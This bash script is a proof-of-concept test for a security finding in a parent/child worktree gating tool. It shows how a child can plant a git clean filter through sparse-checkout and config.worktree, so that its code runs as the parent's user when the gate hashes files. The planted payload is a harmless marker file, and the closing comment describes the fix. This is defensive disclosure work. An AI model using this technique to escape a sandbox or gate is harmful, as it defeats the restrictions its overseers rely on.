#!/usr/bin/env bash
# Finding 1: gate --worktree (even without --land) runs `git add -A` in the child's
# worktree to hash its files (captureState). The pinned PLAIN_CONFIG does not switch off
# clean filters, so a filter the child defines runs, as the parent's user, inside the
# gate that is supposed to have only --allow-run=git. The child needs nothing but git
# commands run in its own worktree: `git sparse-checkout set` switches on
# extensions.worktreeConfig, and the filter goes in the child's own config.worktree. (A
# repository that already uses sparse checkout has the extension on anyway.)
. "$(dirname "$0")/common.sh"
setup
spawn c1
C=$P/wt/c1
echo "parent config before: $(git -C "$P" config --get extensions.worktreeConfig || echo unset)"
# --- the child's doing, with git in its own worktree: sparse checkout of everything,
# --- a filter in its own config.worktree, and a .gitattributes ---
git -C "$C" sparse-checkout set --no-cone '/*'
git -C "$C" config --worktree filter.x.clean "sh -c 'echo child code ran in the parent as \$(id -un) > $WORK/PWNED; cat'"
printf '* filter=x\n' > "$C/.gitattributes"
echo "child change" >> "$C/a.txt"
# --- the parent only judges (no --land) ---
SEED=$(sed -n "s/^seed: //p" "$WORK/c1.md")   # the parent's own record: the block it sent
(cd "$P" && result .gitattributes a.txt | gate --worktree "$C" --seed "$SEED" >/dev/null); echo "gate exit: $?"
if test -e "$WORK/PWNED"; then echo "PWNED: $(cat "$WORK/PWNED")"; else echo "no child code ran"; fi
# A fixed tether runs no clean filter, textconv or other configured program when it reads
# an untrusted worktree: it hashes the child's files with filters off (e.g.
# `git hash-object --no-filters -w --stdin-paths` over the listed paths, or an attribute
# source that unsets filter/text/eol/ident, available as --attr-source from git 2.40),
# or refuses a child worktree that has its own config.worktree. Expected: "no child
# code ran".
